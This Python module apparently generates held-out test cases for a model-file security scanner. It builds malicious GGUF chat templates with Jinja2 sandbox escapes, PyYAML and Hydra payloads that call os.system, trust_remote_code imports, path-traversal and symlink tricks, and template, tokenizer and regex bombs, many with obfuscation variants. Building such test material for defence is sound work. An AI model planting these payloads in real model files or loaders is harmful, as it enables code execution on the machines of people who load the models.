"""Held-out attacks: configurations, templates, XML, YAML and other texts that loaders act on."""

# ruff: noqa: E501, E731 (one attack a line)
from __future__ import annotations

import json
import struct
from collections.abc import Iterator

from corpora.unseen_archives import _make, tarred, zipped
from corpora.unseen_units import (
    BOMB,
    BROKEN,
    CALL,
    EVIL,
    FOREIGN,
    OUTSIDE,
    PATH,
    REMOTE,
    TEMPLATE,
    TOUCH,
    WRITE,
    YAML,
    Attack,
)

PAYLOAD = {"payload.py": f"{WRITE}\ndef _load_pyfunc(path): pass\nclass Model: pass\n".encode()}
CODE = REMOTE | CALL | frozenset({"model-keras-foreign-class"})


def gguf(*pairs: tuple[str, str], tensors: int = 0, count: int | None = None) -> bytes:
    text = lambda s: struct.pack("<Q", len(s.encode())) + s.encode()
    body = b"".join(text(k) + struct.pack("<I", 8) + text(v) for k, v in pairs)
    return b"GGUF" + struct.pack("<IQQ", 3, tensors, len(pairs) if count is None else count) + body


def templates() -> Iterator[Attack]:
    run = f"popen('{TOUCH}').read()"
    table = {
        "cycler": "{{ cycler.__init__.__globals__.os.%s }}",
        "namespace": "{{ namespace.__init__.__globals__['__builtins__']['__import__']('os').%s }}",
        "attr-escape": "{{ (lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')).os.%s }}",
        "joined": "{% set a = '__glo' ~ 'bals__' %}{{ (lipsum|attr(a))['os'].%s }}",
        "map-filter": "{% for g in [lipsum]|map(attribute='__globals__') %}{{ g.os.%s }}{% endfor %}",
        "subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['touch', '/tmp/MARK']) }}{% endif %}{% endfor %}",
        "subscript": "{{ joiner['__ini' + 't__']['__globals__']['os'].%s }}",
        "reversed": "{{ (lipsum|attr('__slabolg__'|reverse)).os.%s }}",
        "format": "{{ (lipsum|attr('%c%cglobals%c%c'|format(95, 95, 95, 95))).os.%s }}",
        "self": "{{ self.__init__.__globals__.__builtins__.__import__('os').%s }}",
        "message-attribute": "{{ messages.__class__.__base__.__subclasses__()|length }}{{ dict.mro()[-1].__subclasses__()|length }}{{ joiner.__init__.__globals__.os.%s }}",
        "macro": "{% macro f(o) %}{{ o.__globals__.os.%s }}{% endmacro %}{{ f(lipsum) }}",
        "line-comment": "{#- chat -#}{% if messages %}{% raw %}{{ x }}{% endraw %}{{ lipsum.__globals__.os.%s }}{% endif %}",
        "loop-variable": "{% for m in messages recursive %}{{ loop.__class__.__init__.__globals__['sys'].modules['os'].%s }}{% endfor %}",
    }  # fmt: skip
    load = "import gguf, jinja2\nr = gguf.GGUFReader(F)\nt = r.fields['tokenizer.chat_template'].contents()\njinja2.Environment(loader=jinja2.BaseLoader()).from_string(t).render(messages=[{'role': 'user', 'content': 'x'}])"
    plain = {"general.architecture": "llama", "tokenizer.chat_template": ""}
    rows: dict[str, tuple] = {}
    for what, text in table.items():
        rows[what] = (
            f"the chat template leaves the sandbox that it is not in: {what}",
            gguf(*{**plain, "tokenizer.chat_template": text.replace("%s", run)}.items()),
        )
    rows["named-template"] = (
        "a second template, for tools, is the hostile one",
        gguf(*plain.items(), ("tokenizer.chat_template.tool_use", table["cycler"].replace("%s", run))),
        None,
        load.replace("'tokenizer.chat_template'", "'tokenizer.chat_template.tool_use'"),
    )
    slow = "{% for a in range(9999) %}{% for b in range(9999) %}{% for c in range(9999) %}{% endfor %}{% endfor %}{% endfor %}"
    big = "{% set ns = namespace(x='AAAAAAAA') %}{% for a in range(60) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}"
    safe = load.replace(
        "jinja2.Environment(loader=jinja2.BaseLoader())",
        "__import__('jinja2.sandbox').sandbox.ImmutableSandboxedEnvironment()",
    )
    rows["loops"] = (
        "10^12 turns, which no sandbox forbids",
        gguf(("tokenizer.chat_template", slow)),
        TEMPLATE | BOMB,
        safe,
        "bomb",
    )
    rows["doubling"] = (
        "a text that doubles 60 times, which no sandbox forbids",
        gguf(("tokenizer.chat_template", big)),
        TEMPLATE | BOMB,
        safe,
        "bomb",
    )
    rows["multiply"] = (
        "'a' times 10^11 in the sandbox",
        gguf(("tokenizer.chat_template", "{{ 'a' * 100000000000 }}")),
        TEMPLATE | BOMB,
        safe,
        "bomb",
    )
    rows["tokenizer-config"] = (
        "the template of tokenizer_config.json",
        {"tokenizer_config.json": json.dumps({"chat_template": table["cycler"].replace("%s", run)}).encode()},
        None,
        "import json, jinja2; jinja2.Template(json.load(open(F))['chat_template']).render()",
    )
    rows["template-list"] = (
        "the second of several templates in tokenizer_config.json",
        {
            "tokenizer_config.json": json.dumps(
                {
                    "chat_template": [
                        {"name": "default", "template": "{{ messages }}"},
                        {"name": "rag", "template": table["macro"].replace("%s", run)},
                    ]
                }
            ).encode()
        },
        None,
        "import json, jinja2; jinja2.Template(json.load(open(F))['chat_template'][1]['template']).render()",
    )
    rows["jinja-file"] = (
        "chat_template.jinja beside the model",
        {"chat_template.jinja": (table["joined"].replace("%s", run)).encode()},
        None,
        "import jinja2; jinja2.Template(open(F).read()).render()",
    )
    yield from _make(
        "templates",
        "llama-cpp-python <= 0.2.71 and others that render with jinja2.Environment (CVE-2024-34359)",
        load,
        TEMPLATE,
        rows,
        "m.gguf",
    )


def yamls() -> Iterator[Attack]:
    load = "import yaml; yaml.unsafe_load(open(F, 'rb'))"
    py = "tag:yaml.org,2002:python"
    laugh = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{b}: &{b} [{','.join(['*' + a] * 9)}]\n" for a, b in zip("abcdefghi", "bcdefghij", strict=False)
    )
    table = {
        "apply": ("calls os.system", f"!!python/object/apply:os.system ['{TOUCH}']\n".encode()),
        "new": ("object/new of a tuple uses up a map over os.system", f"!!python/object/new:tuple [!!python/object/new:map [!!python/name:os.system , ['{TOUCH}']]]\n".encode()),
        "verbatim": ("the tag is spelled in full", f"weights: !<{py}/object/apply:os.system> ['{TOUCH}']\n".encode()),
        "tag-directive": ("a TAG directive hides the word python", f"%TAG !m! {py}/object/\n---\nx: !m!apply:os.system ['{TOUCH}']\n".encode()),
        "percent": ("the tag is percent-encoded", f"x: !!%70ython/object/apply:os.system ['{TOUCH}']\n".encode()),
        "key": ("the call is a key of a mapping", f"? !!python/object/apply:os.system ['{TOUCH}']\n: 1\n".encode()),
        "module": ("names a module beside the model, which is imported", {"m.yaml": b"x: !!python/name:payload.Model\n", **PAYLOAD}, None, load),
        "state": ("listitems call the extend that the state put there", f"!!python/object/new:type\nargs: ['z', !!python/tuple [], {{'extend': !!python/name:exec }}]\nlistitems: \"{WRITE}\"\n".encode()),
        "anchors": ("anchors that grow nine-fold nine times, printed", laugh.encode(), BOMB | BROKEN | YAML, "import yaml; x = yaml.safe_load(open(F)); str(x)", "bomb"),
        "utf16": ("the same in UTF-16", f"x: !!python/object/apply:os.system ['{TOUCH}']\n".encode("utf-16")),
        "flow": ("the call hides in a flow sequence behind a comment", f"# exec-free\nlayers: [1, {{a: !!python/object/apply:os.system ['{TOUCH}']}}] # end\n".encode()),
    }  # fmt: skip
    yield from _make("yaml", "yaml.unsafe_load and UnsafeLoader, PyYAML 6.0", load, YAML | CALL, table, "m.yaml")


def hydra() -> Iterator[Attack]:
    load = "from omegaconf import OmegaConf; import hydra.utils; hydra.utils.instantiate(OmegaConf.load(F))"
    nemo = "import tarfile; tarfile.open(F).extract('model_config.yaml', '.'); F = 'model_config.yaml'; " + load
    first = "_target_: os.system\ncommand: " + TOUCH + "\n"
    table = {
        "target": ("_target_ is os.system", first),
        "nested": ("the target is deep in an honest configuration", "encoder:\n  layers:\n    - name: a\n    - _target_: subprocess.check_call\n      _args_: [[touch, /tmp/MARK]]\n"),
        "args": ("_args_ gives positional arguments", f"_target_: builtins.exec\n_args_: [\"{WRITE}\"]\n"),
        "interpolated": ("the target is put together by interpolation", f"a: os\nb: sys\nmodel:\n  _target_: ${{a}}.${{b}}tem\n  command: {TOUCH}\n"),
        "resolver": ("hydra's own get_method is the target of a target", "m:\n  _target_: hydra.utils.call\n  config:\n    _target_: os.system\n    command: " + TOUCH + "\n"),
        "partial": ("_partial_ makes a call that waits, map uses it up", f"_target_: builtins.list\n_args_:\n  - _target_: builtins.map\n    _args_:\n      - {{_target_: os.system, _partial_: true}}\n      - ['{TOUCH}']\n"),
        "quoted-key": ("the key is quoted and escaped", f'"\\x5ftarget_": os.system\ncommand: {TOUCH}\n'),
        "merge": ("a YAML anchor brings the target", f"x: &x\n  _target_: os.system\n  command: {TOUCH}\nmodel:\n  <<: *x\n"),
    }  # fmt: skip
    for what, (does, text) in table.items():
        config = text.encode()
        nemo_file = what in {"nested", "merge", "partial"}
        data = tarred(("model_config.yaml", config, {}), ("model_weights.ckpt", b"", {})) if nemo_file else config
        file = "m.nemo" if nemo_file else "model_config.yaml"
        yield Attack(
            f"hydra/{what}",
            "hydra",
            {file: data},
            "hydra.utils.instantiate, Hydra 1.3.2, as NeMo's restore_from",
            nemo if nemo_file else load,
            does,
            CODE,
            "hydra",
        )


def directories() -> Iterator[Attack]:
    """Folders of Hugging Face libraries and MLflow."""
    remote = "from transformers import AutoConfig; AutoConfig.from_pretrained('.', trust_remote_code=True)"
    auto = {"model_type": "own", "auto_map": {"AutoConfig": "payload.Model"}}
    conf = f"{WRITE}\nfrom transformers import PretrainedConfig\nclass Model(PretrainedConfig): model_type = 'own'\n".encode()
    flow = "import mlflow.pyfunc; mlflow.pyfunc.load_model('.')"
    ml = lambda extra: f"flavors:\n  python_function:\n{extra}mlflow_version: 3.0.0\nmodel_uuid: a\n".encode()
    growth = [{"type": "Replace", "pattern": {"String": "a"}, "content": "aa"}] * 40
    tokens = {
        "version": "1.0",
        "truncation": None,
        "padding": None,
        "added_tokens": [],
        "normalizer": {"type": "Sequence", "normalizers": growth},
        "pre_tokenizer": None,
        "post_processor": None,
        "decoder": None,
        "model": {"type": "WordLevel", "vocab": {"a": 0}, "unk_token": "a"},
    }
    slow = {
        **tokens,
        "normalizer": None,
        "pre_tokenizer": {
            "type": "Split",
            "pattern": {"Regex": "(?:(a|a|a)*)*$|(?:(\\w*)*)*!"},
            "behavior": "Isolated",
            "invert": False,
        },
    }
    index = {"metadata": {}, "weight_map": {"w": "../../../../outside/canary.pkl"}}
    modules = [{"idx": 0, "name": "0", "path": "", "type": "payload.Model"}]
    use = "import tokenizers; tokenizers.Tokenizer.from_file(F).encode('a' * 40 + 'b')"
    table = {
        "auto-map": ("trust_remote_code imports the module beside", {"config.json": json.dumps(auto).encode(), "payload.py": conf}, REMOTE, remote),
        "auto-map-tokenizer": ("the tokenizer's configuration names the code", {"tokenizer_config.json": json.dumps({"tokenizer_class": "Own", "auto_map": {"AutoTokenizer": ["payload.Model", None]}}).encode(), "config.json": b'{"model_type": "bert"}', **PAYLOAD}, REMOTE, "from transformers import AutoTokenizer; AutoTokenizer.from_pretrained('.', trust_remote_code=True)"),
        "auto-map-processor": ("the image processor's configuration names the code", {"preprocessor_config.json": json.dumps({"image_processor_type": "Own", "auto_map": {"AutoImageProcessor": "payload.Model"}}).encode(), **PAYLOAD}, REMOTE, "from transformers import AutoImageProcessor; AutoImageProcessor.from_pretrained('.', trust_remote_code=True)"),
        "index-traversal": ("the index of a sharded checkpoint leads to a pickle outside", {"pytorch_model.bin.index.json": json.dumps(index).encode()}, PATH, "import json, pickle\nfor v in set(json.load(open(F))['weight_map'].values()): pickle.load(open(v, 'rb'))"),
        "training-args": ("training_args.bin is a pickle as well", {"config.json": b"{}", "training_args.bin": zipped(("a/data.pkl", EVIL), ("a/version", b"3\n"), ("a/byteorder", b"little"))}, CALL, "import torch; torch.load('training_args.bin', weights_only=False)"),
        "tokenizer-growth": ("40 normalizers double the text each", {"tokenizer.json": json.dumps(tokens).encode()}, BOMB, use, "bomb"),
        "tokenizer-regex": ("the splitting pattern backtracks without end", {"tokenizer.json": json.dumps(slow).encode()}, BOMB, use, "bomb"),
        "sentence-modules": ("modules.json names a class beside the model (sentence-transformers' import_from_string)", {"modules.json": json.dumps(modules).encode(), **PAYLOAD}, CODE, "import json, importlib; [importlib.import_module(m['type'].rpartition('.')[0]) for m in json.load(open(F))]"),
        "mlflow-loader": ("MLmodel names a loader module in the code folder", {"MLmodel": ml("    code: code\n    loader_module: payload\n"), "code/payload.py": PAYLOAD["payload.py"]}, CODE, flow),
        "mlflow-data": ("the flavor's pickle lies outside of the model", {"MLmodel": ml("    loader_module: mlflow.sklearn\n    model_path: ../../../../outside/canary.pkl\n    serialization_format: pickle\n"), "x": b""}, PATH | CALL, flow),
    }  # fmt: skip
    yield from _make("directories", "transformers 5, tokenizers, MLflow 3", remote, REMOTE, table, "x")
    bert = {"config.json": b'{"model_type": "bert", "vocab_size": 8}'}
    show = "print(open('vocab.txt').read())"
    yield Attack(
        "directories/symlink-vocabulary",
        "directories",
        bert,
        "any tokenizer that reads vocab.txt",
        show,
        "the vocabulary is a link to a file outside",
        PATH,
        links={"vocab.txt": f"{OUTSIDE}/canary.txt"},
    )
    yield Attack(
        "directories/symlink-folder",
        "directories",
        bert,
        "any loader that reads weights/0",
        "print(open('weights/canary.txt').read())",
        "a folder of the model is a link to one outside",
        PATH,
        links={"weights": OUTSIDE},
    )
    mar = {"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "payload.py"}, "runtime": "python"}
    files = {
        "m.mar": zipped(
            ("MAR-INF/MANIFEST.json", json.dumps(mar).encode()), ("payload.py", PAYLOAD["payload.py"]), ("m.pt", b"")
        )
    }
    serve = "import zipfile, json, sys, importlib; z = zipfile.ZipFile(F); z.extractall('x'); sys.path.insert(0, 'x'); importlib.import_module(json.load(open('x/MAR-INF/MANIFEST.json'))['model']['handler'][:-3])"
    yield Attack(
        "directories/mar-handler",
        "directories",
        files,
        "TorchServe ModelLoader.load: imports the manifest's handler",
        serve,
        "the handler's module is run",
        CODE | FOREIGN,
    )


def attacks() -> Iterator[Attack]:
    for part in (templates, yamls, hydra, directories):
        yield from part()
